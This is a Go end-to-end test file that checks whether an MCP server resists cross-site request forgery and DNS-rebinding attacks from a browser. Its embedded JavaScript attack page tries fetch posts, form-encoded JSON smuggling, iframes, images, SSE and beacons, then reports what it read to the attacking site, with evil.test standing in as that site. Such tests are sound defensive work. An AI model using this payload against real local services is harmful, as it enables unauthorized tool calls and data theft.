package e2e

import (
	"encoding/json"
	"fmt"
	"html/template"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
)

// attack is a page that tries to drive the server in every way that a browser has. It reports what it could read, and then
// goes to the server itself, which ends it.
var attack = template.Must(template.New("").Parse(`<!doctype html><meta charset="utf-8"><title>A harmless page</title>
<iframe name="form"></iframe><iframe id="frame"></iframe>
<form method="post" enctype="text/plain" target="form"><input name="message"></form>
<script>
const server = {{.Server}}, message = {{.Message}}, call = {{.Call}};
const found = {};
const seconds = n => new Promise(done => setTimeout(() => done('nothing came'), n * 1000));
async function attempt(name, act) {
	try { found[name] = String(await Promise.race([act(), seconds(5)])); } catch (error) { found[name] = 'failed: ' + error.name; }
}
const post = (path, mode, type) => fetch(server + path, {method: 'POST', mode, headers: {'Content-Type': type}, body: call})
	.then(async r => r.type + ' ' + r.status + ' ' + await r.text());
const loads = element => new Promise(done => { element.onload = () => done('loaded'); element.onerror = () => done('failed'); });
async function submit(path) {
	const form = document.forms[0], frame = document.getElementsByName('form')[0];
	const cut = call.indexOf('"arguments"'); // a form puts name=value
	form.action = server + path;
	form.elements[0].name = call.slice(0, cut) + '"pad":"';
	form.elements[0].value = '",' + call.slice(cut);
	const loaded = loads(frame);
	form.submit();
	await loaded;
	return frame.contentDocument ? frame.contentDocument.body.innerText : 'closed';
}
async function navigate(path) {
	const frame = document.getElementById('frame'), loaded = loads(frame);
	frame.src = server + path;
	await loaded;
	return frame.contentDocument ? frame.contentDocument.body.innerText : 'closed';
}
function subscribe() {
	return new Promise(done => {
		const source = new EventSource(server + '/sse');
		source.addEventListener('endpoint', event => { source.close(); done('subscribed: ' + event.data); });
		source.onerror = () => { source.close(); done('failed'); };
	});
}
async function image(path) {
	const picture = new Image(), loaded = loads(picture);
	picture.src = server + path;
	return loaded;
}
(async () => {
	for (const path of ['/mcp', message]) {
		await attempt('json ' + path, () => post(path, 'cors', 'application/json'));
		await attempt('plain ' + path, () => post(path, 'cors', 'text/plain'));
		await attempt('blind ' + path, () => post(path, 'no-cors', 'text/plain'));
		await attempt('form ' + path, () => submit(path));
	}
	await attempt('read /metrics', () => fetch(server + '/metrics').then(r => r.text()));
	await attempt('events /sse', subscribe);
	for (const path of ['/mcp', '/sse', '/metrics']) {
		await attempt('frame ' + path, () => navigate(path));
		await attempt('image ' + path, () => image(path));
	}
	navigator.sendBeacon(server + '/mcp', call);
	await fetch('/found', {method: 'POST', body: JSON.stringify(found)});
	location = server + '/sse';
})();
</script>
`))

// page is a web site with an attack on a server.
type page struct {
	*httptest.Server
	address string
	found   chan map[string]string
}

// newPage returns a web site that serves nothing yet.
func newPage(t testing.TB) *page {
	t.Helper()
	p := &page{Server: httptest.NewUnstartedServer(nil), found: make(chan map[string]string, 1)}
	p.address = "http://" + p.Listener.Addr().String()
	t.Cleanup(p.Close)
	return p
}

// serve starts the site.
func (p *page) serve(handler http.Handler) {
	p.Config.Handler = handler
	p.Start()
}

// handler serves the attack on the server at a URL, and takes what it finds. message is a path that takes messages.
func (p *page) handler(t testing.TB, server, message string) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /page", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		err := attack.Execute(w, map[string]string{"Server": server, "Message": message, "Call": strings.TrimSpace(list(1, `{}`))})
		if err != nil {
			t.Error(err)
		}
	})
	mux.HandleFunc("POST /found", func(_ http.ResponseWriter, r *http.Request) {
		found := map[string]string{}
		if err := json.NewDecoder(r.Body).Decode(&found); err != nil {
			t.Error(err)
		}
		p.found <- found
	})
	return mux
}

// visited opens address in a browser, and returns what the page there has found. The browser stays until the end of the
// test.
func (p *page) visited(t testing.TB, address string) map[string]string {
	t.Helper()
	browser := run(t, nil, program(t, "chromium", "chromium-browser", "google-chrome"),
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--no-proxy-server", "--remote-debugging-port=0",
		"--host-resolver-rules=MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
		"--user-data-dir="+t.TempDir(), address)
	timer := time.NewTimer(3 * patience)
	defer timer.Stop()
	select {
	case found := <-p.found:
		return found
	case <-browser.exited:
		t.Fatalf("the browser ended: %v", browser.err)
	case <-timer.C:
		t.Fatal("the page found nothing")
	}
	return nil
}

// unread are findings that tell nothing of the server: the browser did not show the answer.
func unread(finding string) bool {
	return strings.HasPrefix(finding, "failed") || slices.Contains([]string{"opaque 0 ", "closed"}, finding)
}

// uncalled checks that no tool was called, and no stream of the page's is open, after at least n refusals for reason.
func (s *site) uncalled(reason string, n float64) {
	s.t.Helper()
	until(s.t, fmt.Sprintf("%g requests are refused because of their %s", n, reason), func() bool {
		return s.metric("refusals_total", fmt.Sprintf("rule=%q", reason)) >= n
	})
	if calls := s.metric("tool_calls_total"); calls != 0 {
		s.t.Errorf("%g tools were called", calls)
	}
}

// A page of another site can neither call nor read anything, even if it knows the address of somebody's messages.
func TestBrowserOfAnotherSite(t *testing.T) {
	program(t, "chromium", "chromium-browser", "google-chrome")
	_, settings := laboratory(t, 1)
	for _, transport := range []string{"http", "sse"} {
		t.Run(transport, func(t *testing.T) {
			s := serve(t, transport, settings)
			message := "/message?sessionId=guessed"
			client := &http.Client{Transport: &http.Transport{}}
			defer client.CloseIdleConnections()
			var victim *listener
			if transport == "sse" {
				victim = listen(t, client, s.url, "")
				message = strings.TrimPrefix(victim.message, s.url)
			}
			p := newPage(t)
			p.serve(p.handler(t, s.url, message))
			found := p.visited(t, p.address+"/page")
			if len(found) != 16 {
				t.Errorf("%d attempts", len(found))
			}
			for attempt, finding := range found {
				if !unread(finding) {
					t.Errorf("%s: %s", attempt, finding)
				}
			}
			// Each attempt once, the beacon and the last navigation. A preflight counts for what it asks for.
			s.uncalled("origin", float64(len(found)+2))
			if victim != nil {
				victim.calls(t, client, "") // its first event is the answer to this
			}
		})
	}
}

// A page whose own name leads to this machine, after its DNS has changed its mind, is of the same origin as the server and
// reads refusals only.
func TestBrowserOfARebornName(t *testing.T) {
	program(t, "chromium", "chromium-browser", "google-chrome")
	_, settings := laboratory(t, 1)
	s := serve(t, "sse", settings)
	target, err := url.Parse(s.url)
	if err != nil {
		t.Fatal(err)
	}
	p := newPage(t)
	own := p.handler(t, "", "/message?sessionId=guessed")
	server := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(target)
		r.Out.Host = r.In.Host
	}}
	p.serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/page" || r.URL.Path == "/found" { // what the name led to at first
			own.ServeHTTP(w, r)
			return
		}
		server.ServeHTTP(w, r)
	}))
	found := p.visited(t, strings.Replace(p.address, "127.0.0.1", "evil.test", 1)+"/page")
	if len(found) != 16 {
		t.Errorf("%d attempts", len(found))
	}
	refusals := 0
	for attempt, finding := range found {
		switch {
		case strings.Contains(finding, "not known under this Host") && !strings.Contains(finding, "200"):
			refusals++
		case !unread(finding):
			t.Errorf("%s: %s", attempt, finding)
		}
	}
	if refusals == 0 {
		t.Errorf("no refusal could be read: %q", found)
	}
	s.uncalled("host", float64(len(found)))
}

// The control: the same page may call when the operator has allowed its origin, so that what stops the others is the server.
func TestBrowserOfAnAllowedSite(t *testing.T) {
	program(t, "chromium", "chromium-browser", "google-chrome")
	_, settings := laboratory(t, 1)
	p := newPage(t)
	s := serve(t, "sse", settings, "--allowed-origins", p.address)
	client := &http.Client{Transport: &http.Transport{}}
	defer client.CloseIdleConnections()
	own := listen(t, client, s.url, "")
	p.serve(p.handler(t, s.url, strings.TrimPrefix(own.message, s.url)))
	found := p.visited(t, p.address+"/page")
	for attempt, want := range map[string]string{
		"json /mcp": `"returned":1`, "plain /mcp": "cors 415", "read /metrics": "scnet_mcp_tool_calls_total",
		"events /sse": "subscribed: /message?",
		"blind /mcp":  "opaque 0 ", // a page that may call still has to do it right
	} {
		if !strings.Contains(found[attempt], want) {
			t.Errorf("%s: %s", attempt, found[attempt])
		}
	}
	if data, _ := own.next(t); !strings.Contains(data, `"returned":1`) {
		t.Errorf("over /message: %s", data)
	}
	if calls := s.metric("tool_calls_total", `tool="list_instances"`, `outcome="ok"`); calls != 2 {
		t.Errorf("%g calls", calls)
	}
}
